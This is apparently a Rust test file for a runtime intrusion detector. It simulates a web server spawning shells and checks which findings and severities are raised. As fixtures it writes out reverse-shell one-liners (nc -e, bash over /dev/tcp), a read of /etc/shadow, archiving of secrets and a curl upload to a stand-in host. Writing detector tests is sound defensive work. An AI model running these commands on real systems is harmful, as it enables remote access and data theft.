//! What someone does who has been let in: it is told whatever stands above it, and for as long as it goes on.

mod scene;

use scene::{Client, Conn, Scene, Server, Thread, answer, get};
use tracer_common::Exec;
use tracer_engine::{Input, Time, Usual};

const S: Thread = Thread(20, 20);
const SHELL: Thread = Thread(40, 40);

/// A server with a request open.
fn serving() -> (Scene, Conn) {
    let mut s = Scene::new();
    s.exec(S, &["shop"]);
    let conn = s.accept(80);
    s.recv(S, conn, Server, &get("/x?go=1"));
    (s, conn)
}

/// A program below another one that ends.
fn run(s: &mut Scene, parent: Thread, pid: u32, args: &[&str], code: u32) {
    s.fork(parent, pid);
    let file = if args[0].starts_with('/') { args[0].to_owned() } else { format!("/usr/bin/{}", args[0]) };
    s.exec_as(Exec::default(), Thread(pid, pid), &file, args);
    s.exit(pid, code << 8);
}

/// Rule and severity of each finding, and all that they say.
fn told(s: &mut Scene) -> (Vec<String>, String) {
    s.wait(4_000);
    let found = s.found();
    let rules = found.iter().map(|finding| format!("{} {}", finding.rule, finding.severity.name()));
    let texts = found.iter().flat_map(|finding| finding.evidence.iter().map(|fact| fact.text.as_str()));
    (rules.collect(), texts.collect::<Vec<_>>().join("\n"))
}

#[test]
fn what_lets_someone_in_does_so_below_a_program_of_the_application() {
    let lets_in: &[(&[&str], &str)] = &[
        (&["nc", "-e", "sh", "10.0.0.9", "1"], "high"),
        (&["/dev/shm/x"], "high"),
        (&["nc", "-z", "10.0.0.9", "1"], "medium"),
        (&["whoami"], "medium"),
        (&["convert", "b"], "medium"),
    ];
    for (args, severity) in lets_in {
        let (mut s, conn) = serving();
        s.fork(S, 40);
        s.exec(SHELL, &["bash", "/srv/job.sh"]);
        run(&mut s, SHELL, 90, args, 1);
        s.exit(40, 0);
        s.send(S, conn, Server, &answer(200, "ok"));
        let (rules, _) = told(&mut s);
        assert!(matches!(&rules[..], [one] if one.ends_with(severity)), "{args:?}: {rules:?}");
    }
}

#[test]
fn what_is_done_again_and_again_takes_no_room_from_what_is_new() {
    let (mut s, conn) = serving();
    s.fork(S, 40);
    s.exec(SHELL, &["bash", "/srv/job.sh"]);
    for pid in 60..80 {
        run(&mut s, SHELL, pid, &["convert", "a"], 0);
    }
    run(&mut s, SHELL, 90, &["nc", "-e", "sh", "10.0.0.9", "1"], 1);
    run(&mut s, SHELL, 91, &["tar", "czf", "/tmp/loot.tgz", "/srv/secrets"], 2);
    s.exit(40, 0);
    s.send(S, conn, Server, &answer(200, "ok"));
    let (_, facts) = told(&mut s);
    for fact in [
        "pid 40 ran `bash /srv/job.sh`",
        "pid 60 ran `convert a`",
        "pid 90 ran `nc -e sh 10.0.0.9 1`",
        "pid 90 `nc -e sh 10.0.0.9 1` ended with exit code 1",
        "pid 91 ran `tar czf /tmp/loot.tgz /srv/secrets`",
        "pid 91 `tar czf /tmp/loot.tgz /srv/secrets` ended with exit code 2",
        "pid 40 `bash /srv/job.sh` ended with exit code 0",
    ] {
        assert!(facts.contains(fact), "{fact}\n{facts}");
    }
}

#[test]
fn who_goes_on_is_told_of_again() {
    let (mut s, conn) = serving();
    s.fork(S, 40);
    s.exec(SHELL, &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"]);
    let away = s.begin_connect(SHELL, 4444);
    s.established(away, SHELL);
    s.send(S, conn, Server, &answer(200, "ok"));
    let (rules, _) = told(&mut s);
    assert_eq!(rules, ["process.remote_shell critical"]);
    s.outputs.clear();
    s.wait(10_000);
    run(&mut s, SHELL, 50, &["id"], 0);
    s.wait(10_000);
    run(&mut s, SHELL, 51, &["cat", "/etc/shadow"], 1);
    s.fork(SHELL, 52);
    s.exec(Thread(52, 52), &["curl", "-T", "/tmp/x.tgz", "http://10.0.0.9/"]);
    let upload = s.begin_connect(Thread(52, 52), 8080);
    s.established(upload, Thread(52, 52));
    s.send(Thread(52, 52), upload, Client, "0123456789");
    s.exit(52, 0);
    s.reset(upload, Client);
    s.wait(10_000);
    s.send(SHELL, away, Client, "root:x:0:0");
    s.exit(40, 0);
    s.reset(away, Client);
    s.wait(60_000);
    let (rules, facts) = told(&mut s);
    assert_eq!(rules, ["process.remote_shell critical"; 3], "after 5, 10 and 20 s at the earliest");
    for fact in [
        "pid 50 ran `id`",
        "pid 51 `cat /etc/shadow` ended with exit code 1",
        "pid 52 has sent 10 bytes to 127.0.0.1:8080",
        "pid 40 has sent 10 bytes to 127.0.0.1:4444",
        "ended with exit code 0",
    ] {
        assert!(facts.contains(fact), "{fact}\n{facts}");
    }
    let ids: Vec<_> = s.found().iter().map(|finding| (finding.rule, finding.span)).collect();
    assert!(ids.windows(2).all(|two| two[0] == two[1]), "the same finding: {ids:?}");
}

#[test]
fn what_lets_someone_in_is_usual_nowhere() {
    let launches = [
        ("/srv/convert", "convert -v", 0, "none"),
        ("/srv/convert", "convert -v", u32::MAX, "high"),
        ("/usr/bin/nc", "nc -l", 0, "high"),
        ("/usr/bin/id", "id", 0, "none"),
    ];
    for (file, line, written, severity) in launches {
        let mut s = Scene::new();
        s.exec(S, &["shop"]);
        let habit = format!("launch GET /x | {file} | {line}").parse().expect("a habit");
        let service = "shop".to_owned();
        let usual = Usual { service, learned: true, requests: 1, habits: vec![habit], ..Usual::default() };
        s.engine.handle(Input::Baseline(usual), Time(0));
        let conn = s.accept(80);
        s.recv(S, conn, Server, &get("/x?go=1"));
        s.fork(S, 40);
        s.exec_as(
            Exec { image_written: written, ..Exec::default() },
            SHELL,
            file,
            &line.split(' ').collect::<Vec<_>>(),
        );
        s.exit(40, 0);
        s.send(S, conn, Server, &answer(200, "ok"));
        let (rules, _) = told(&mut s);
        let worst = rules.iter().find(|rule| rule.starts_with("process.")).map_or("none", |rule| rule);
        assert!(worst.ends_with(severity), "{line} {written}: {rules:?}");
    }
}
